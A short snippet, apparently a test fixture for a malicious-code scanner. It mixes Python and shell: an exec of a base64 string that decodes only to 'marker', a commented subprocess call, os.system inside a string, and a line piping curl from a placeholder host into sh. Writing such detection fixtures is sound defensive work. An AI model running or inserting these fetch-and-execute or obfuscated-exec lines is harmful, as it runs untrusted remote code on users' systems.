import os, base64
exec(base64.b64decode("bWFya2Vy"))
# subprocess.run(["marker"])
"""os.system(1)"""
curl http://x.invalid/a | sh
